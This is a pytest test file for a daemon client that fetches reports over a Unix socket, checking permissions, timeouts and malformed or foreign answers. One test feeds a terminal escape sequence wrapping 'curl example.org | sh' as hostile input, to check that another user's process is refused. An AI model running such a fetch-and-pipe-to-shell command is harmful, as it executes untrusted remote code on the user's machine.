"""What a command does with what answers at the daemon's socket."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
from contextlib import closing, suppress
from threading import Thread
from typing import TYPE_CHECKING, Any

import pytest

from goarmd.config.paths import socket_path
from goarmd.config.schema import Http
from goarmd.core.errors import GoarmdError
from goarmd.metrics import own_process
from goarmd.runtime.on_demand import OnDemand
from goarmd.views.from_report import to_values
from goarmd.views.json_text import encode
from goarmd.web.client import fetch_report, is_ready, problem
from goarmd.web.listening import short
from goarmd.web.server import WebSink
from tests.builders import NOW, host, process, report, sample
from tests.live.running import until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from goarmd.runtime.report import Report

BODY = encode(to_values(report(host(), sample())))
VALUES: dict[str, Any] = json.loads(BODY)


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The state folder."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    folder = tmp_path / "goarmd"
    folder.mkdir()
    return folder


@pytest.fixture
def answering(state: Path) -> Iterator[Callable[..., None]]:
    """Makes a server at the daemon's socket that answers everything with one body."""
    doors: list[socket.socket] = []

    def serve(body: bytes, status: int = 200, missing: int = 0) -> None:
        head = f"HTTP/1.1 {status} x\r\nContent-Type: x\r\nContent-Length: {len(body) + missing}\r\nX: y\r\n\r\n"
        serve_raw(head.encode() + body)

    def serve_raw(answer: bytes) -> None:
        door = socket.socket(socket.AF_UNIX)
        doors.append(door)
        with short(state / "goarmd.sock") as name:
            door.bind(name)
        door.listen()
        Thread(target=answer_one, args=(door, answer), daemon=True).start()

    serve.raw = serve_raw  # type: ignore[attr-defined]
    yield serve
    for door in doors:
        door.close()


def answer_one(door: socket.socket, answer: bytes) -> None:
    with suppress(OSError):
        connection, _ = door.accept()
        with connection:
            connection.recv(4096)
            connection.sendall(answer)


def refusal() -> str:
    with pytest.raises(GoarmdError) as caught:
        fetch_report()
    said = str(caught.value)
    assert said.startswith(f"{socket_path()}: ")
    assert "\n" not in said
    return said


def changed(**given: Any) -> bytes:
    return json.dumps({**VALUES, **given}).encode()


def test_the_report_of_a_daemon_is_a_value(state: Path) -> None:
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path())) as web:
        web.publish(report(host(), sample(process(pid=77))))
        fetched = fetch_report()
    assert fetched is not None
    assert (fetched.taken_at, str(fetched.host)) == (NOW, "macOS 26.1 arm64 Apple M4")
    assert [process.pid for group in fetched.groups for process in group.processes] == [77]
    assert not socket_path().exists(), "it is removed when the daemon ends"


def test_the_owner_needs_no_login_at_the_socket(state: Path, tmp_path: Path) -> None:
    password = tmp_path / "password"
    password.write_text("open sesame\n")
    password.chmod(0o600)
    http = Http(listen="127.0.0.1:0", username="prom", password_file=str(password))
    with closing(WebSink(http, socket_path())) as web:
        web.publish(report(host(), sample()))
        assert is_ready()


def test_only_the_owner_can_connect_to_the_socket(state: Path) -> None:
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path())):
        assert stat.S_IMODE(socket_path().stat().st_mode) == 0o600


def test_the_socket_of_a_killed_daemon_is_replaced(answering: Callable[..., None]) -> None:
    answering(b"")
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path())) as web:
        web.publish(report(host(), sample()))
        assert is_ready()


def test_a_socket_that_comes_back_replaces_the_removed_one(state: Path) -> None:
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path())) as web:
        web.publish(report(host()))
        assert fetch_report()
        before = own_process.open_files()
        for _ in range(5):
            socket_path().unlink()
            web.publish(report(host()))
            until(fetch_report, "the socket is back", 5)
        until(lambda: own_process.open_files() <= before, "no descriptor more than before", 5)


def test_a_socket_that_was_removed_with_its_folder_is_back_with_the_next_report(state: Path) -> None:
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path())) as web:
        web.publish(report(host(), sample()))
        shutil.rmtree(state)
        assert not is_ready()
        web.publish(report(host(), sample()))
        assert is_ready()
    assert not socket_path().exists()


def test_a_folder_with_a_long_path_has_a_socket_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / ("long" * 50)))
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path())) as web:
        web.publish(report(host(), sample()))
        assert is_ready()


def test_where_nothing_listens_there_is_no_report(state: Path) -> None:
    assert (fetch_report(), is_ready()) == (None, False)
    assert problem() == f"nothing answers at {state}/goarmd.sock"


def test_another_users_process_is_not_asked(answering: Callable[..., None], monkeypatch: pytest.MonkeyPatch) -> None:
    answering(b"\x1b]0;type curl example.org | sh\x07")
    monkeypatch.setattr("goarmd.web.client.peer_user", lambda _: os.geteuid() + 1)
    assert refusal().endswith("another user's process answers there: run this command as that user")


def test_an_endless_answer_is_not_read_to_its_end(
    answering: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("goarmd.web.client._LARGEST", 100_000)
    answering(b"x" * 1_000_000)
    assert "the answer is larger than 100000 bytes" in refusal()


def test_a_daemon_that_does_not_answer_is_not_waited_for(state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("goarmd.web.client._TIMEOUT", 0.05)
    with closing(socket.socket(socket.AF_UNIX)) as silent, short(socket_path()) as name:
        silent.bind(name)
        silent.listen()
        assert "the daemon does not answer (timed out)" in refusal()


def test_a_daemon_before_its_first_sample_has_no_report(answering: Callable[..., None]) -> None:
    answering(b"the first sample is not done yet\n", 503)
    assert fetch_report() is None


@pytest.mark.parametrize(
    ("body", "status"),
    [(b"[]", 200), (b'{"status": "success"}', 200), (changed(version="1\n2"), 200)],
    ids=["list", "another program", "another kind of version"],
)
def test_what_is_not_goarmd_is_named_as_that(answering: Callable[..., None], body: bytes, status: int) -> None:
    answering(body, status)
    assert refusal().endswith("what answers there is not goarmd: stop it, and remove the file")


@pytest.mark.parametrize("answer", [b"", b"SSH-2.0-OpenSSH\r\n", b"HTTP/1.1 200 OK\r\n\r\n", b"\r" * 200_000])
def test_what_does_not_speak_http_is_not_goarmd(answering: Callable[..., None], answer: bytes) -> None:
    answering.raw(answer)  # type: ignore[attr-defined]
    assert "what answers there is not goarmd" in refusal()


@pytest.mark.parametrize("status", [404, 500])
def test_another_status_is_one_line_and_what_to_do(answering: Callable[..., None], status: int) -> None:
    answering(BODY, status)
    assert f"answers with HTTP status {status}: restart that daemon" in refusal()


@pytest.mark.parametrize(
    "body",
    [b"", b"<!doctype html>\n<title>router</title>", BODY[:-1], BODY[: len(BODY) // 2], b'{"x":' * 100_000],
    ids=["empty", "page", "last byte missing", "half", "deep"],
)
def test_a_body_that_is_not_whole_json_is_one_line_and_what_to_do(answering: Callable[..., None], body: bytes) -> None:
    answering(body)
    assert "sends no complete JSON" in refusal()


def test_an_answer_that_breaks_off_is_one_line_and_what_to_do(answering: Callable[..., None]) -> None:
    answering(BODY, missing=10)
    said = refusal()
    assert "the answer was cut off" in said
    assert said.endswith(": try again")


@pytest.mark.parametrize(
    ("body", "where"),
    [
        (changed(groups={}), "$.groups"),
        (changed(taken_at=NOW), "$.taken_at"),
        (changed(taken_at="yesterday\n"), "$.taken_at"),
        (changed(host={**VALUES["host"], "architecture": "riscv"}), "$.host.architecture"),
        (json.dumps({key: value for key, value in VALUES.items() if key != "sources"}).encode(), "`sources`"),
        (BODY.replace(b"Apple", b"\xff"), "0xff"),
    ],
    ids=["wrong type", "number", "no moment", "unknown word", "missing", "not UTF-8"],
)
def test_a_report_that_does_not_fit_says_where_and_what_to_do(
    answering: Callable[..., None], body: bytes, where: str
) -> None:
    answering(body)
    said = refusal()
    assert "a report that does not fit this goarmd" in said
    assert where in said
    assert "restart that daemon with `goarmd install`" in said


@pytest.mark.parametrize(("version", "said"), [(2, "report schema 2"), (None, "report schema unknown")])
def test_a_report_of_another_schema_is_not_read(answering: Callable[..., None], version: int | None, said: str) -> None:
    answering(changed(version="9.9", schema_version=version, groups="changed"))
    refused = refusal()
    assert f"goarmd 9.9 answers with {said}" in refused
    assert "restart that daemon with `goarmd install`" in refused


def test_a_daemon_of_another_schema_is_a_daemon_that_is_ready(answering: Callable[..., None]) -> None:
    answering(changed(schema_version=2, groups="changed"))
    assert is_ready()


def test_a_daemon_of_another_schema_is_no_problem(answering: Callable[..., None]) -> None:
    answering(changed(schema_version=2, groups="changed"))
    assert problem() is None


class Asked(OnDemand):
    """Says that a report is newer when it is asked for the so-many-th time."""

    def __init__(self, newer_at: int) -> None:
        super().__init__(tuple, lambda: None, lambda: None)
        self.newer_at, self.times = newer_at, list[float]()

    def is_newer(self, _: Report, than: float) -> bool:
        self.times.append(than)
        return len(self.times) == self.newer_at


def test_a_newer_report_is_waited_for(state: Path) -> None:
    asked = Asked(newer_at=3)
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path(), asked)) as web:
        web.publish(report(host()))
        assert fetch_report(newer_than=NOW + 0.25)
    assert asked.times == [NOW + 0.25] * 3


def test_a_report_that_does_not_become_newer_is_taken_as_it_is(state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("goarmd.web.client._PATIENCE", 0.1)
    with closing(WebSink(Http(listen="127.0.0.1:0"), socket_path(), Asked(newer_at=0))) as web:
        web.publish(report(host()))
        assert fetch_report(newer_than=NOW)
